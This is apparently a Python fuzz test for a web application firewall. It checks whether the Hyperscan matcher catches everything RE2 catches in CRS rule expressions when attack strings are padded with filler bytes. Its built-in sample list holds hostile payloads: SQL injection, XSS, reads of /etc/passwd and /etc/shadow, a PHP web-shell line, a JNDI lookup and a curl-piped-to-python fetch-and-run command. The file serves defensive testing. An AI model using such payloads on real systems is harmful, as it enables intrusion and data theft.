"""Stretched attacks: whether Hyperscan finds what RE2 finds, whatever stands in between.

    python -m tests.waf.matcher.fuzz [--seconds N] [--seed N]

Values of the CRS tests, of Debian's rules where those are not here, are cut, repeated and filled up
with 1 to 200 bytes, as Vectorscan 5.4.12 missed only what was filled up. Every expression of the
rules that goes to Hyperscan is asked about each. Without `--seconds` it goes on without end.
Exit status 1: a match was missed; it is printed with all that is needed to see it again.
"""

import argparse
import itertools
import random
import sys
import time
from collections.abc import Iterable, Iterator
from typing import Final, NamedTuple
from urllib.parse import unquote_to_bytes

from callout.config.problems import Rejected
from callout.testing.data import FOLDER
from tests.waf import debian_crs
from tests.waf.crs import cases, run
from waf.load import load
from waf.matcher.hyperscan import Database, HyperscanProblem, compile_database
from waf.matcher.superset import for_hyperscan
from waf.operators.contract import Test
from waf.rules import RuleSet

_TESTS: Final = FOLDER / "crs/tests/regression/tests"
_FILLERS: Final = (b" ", b"a", b"A", b"0", b"\n", b"-", b"/", b"\t", b"\0", b"\xff", b"x=1&")
_OWN: Final = (
    b"1' OR 1=1 UNION SELECT password FROM users-- ",
    b"<script>alert(1)</script><img src=x onerror=alert(1)>",
    b"../../../../etc/passwd; cat /etc/shadow | sh -c id",
    b"<?php system($_GET['c']); eval(base64_decode('eA==')); ?>",
    b"${jndi:ldap://x/a} #{7*7} {{constructor.constructor('x')()}}",
    b"@a=(select 1 from dual) waitfor delay '0:0:5'",
    b"curl http://example.com:8080/ 2>&1 | python",
)


class Sought(NamedTuple):
    """One expression that Hyperscan looks for."""

    expression: bytes
    test: Test
    database: Database


class Missed(NamedTuple):
    """What must have been found."""

    expression: bytes
    value: bytes


def rule_set() -> RuleSet:
    """CRS 4 at paranoia 4 where it is here, Debian's else."""
    if _TESTS.is_dir():
        return run.rules(FOLDER / "crs")
    loaded = load("main.conf", debian_crs.require())
    assert not isinstance(loaded, Rejected)
    return loaded


def sought(rules: RuleSet, every: int = 1) -> list[Sought]:
    """The expressions of rules that are Hyperscan's, or each of so many."""
    found: dict[bytes, Test] = {}
    for rule in rules.rules():
        if rule.sought is None or rule.test is None or rule.test(b"") is not None:
            continue
        expression = for_hyperscan(rule.sought.expression) if rule.sought.expression else None
        if expression is not None:
            found.setdefault(expression, rule.test)
    compiled: list[Sought] = []
    for expression, test in itertools.islice(found.items(), 0, None, every):
        try:
            database = Database(compile_database([expression], [0]))
        except HyperscanProblem:
            continue
        compiled.append(Sought(expression, test, database))
    return compiled


def values() -> list[bytes]:
    """What attacks look like."""
    found: set[bytes] = set(_OWN)
    for path in sorted(_TESTS.rglob("*.yaml")):
        for case in cases.load(path):
            for stage in case.stages:
                sent = stage.sent
                whole = [sent.target, sent.body, *(value for _, value in sent.fields)]
                for text in whole:
                    found.update(
                        unquote_to_bytes(part.partition(b"=")[2].replace(b"+", b" "))[:600]
                        for part in text.replace(b"?", b"&").split(b"&")
                    )
    found.discard(b"")
    return sorted(found)


def stretched(pool: list[bytes], seed: int) -> Iterator[bytes]:
    """Values without end; with the same seed the same."""
    chance = random.Random(seed)
    while True:
        value = chance.choice(pool)
        for _ in range(chance.randint(1, 3)):
            at = chance.randint(0, len(value))
            filler = chance.choice(_FILLERS) * chance.randint(1, 200)
            value = value[:at] + filler[: chance.randint(1, 200)] + value[at:]
        yield value


def missed(expressions: Iterable[Sought], value: bytes) -> list[Missed]:
    """What Hyperscan does not find in a value, and RE2 does."""
    return [
        Missed(each.expression, value)
        for each in expressions
        if each.test(value) is not None and not each.database.search(value)
    ]


def main() -> int:
    """See the module."""
    parser = argparse.ArgumentParser(prog="python -m tests.waf.matcher.fuzz")
    parser.add_argument("--seconds", type=float, default=float("inf"))
    parser.add_argument("--seed", type=int, default=int(time.time()))
    options = parser.parse_args()
    expressions = sought(rule_set())
    pool = values()
    print(f"seed {options.seed}: {len(expressions)} expressions, {len(pool)} values", flush=True)
    until = time.monotonic() + options.seconds
    asked = 0
    try:
        for value in stretched(pool, options.seed):
            if found := missed(expressions, value):
                print(*found, sep="\n")
                return 1
            asked += len(expressions)
            if time.monotonic() > until:
                break
    except KeyboardInterrupt:
        pass
    print(f"{asked:,} pairs of expression and value, none missed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
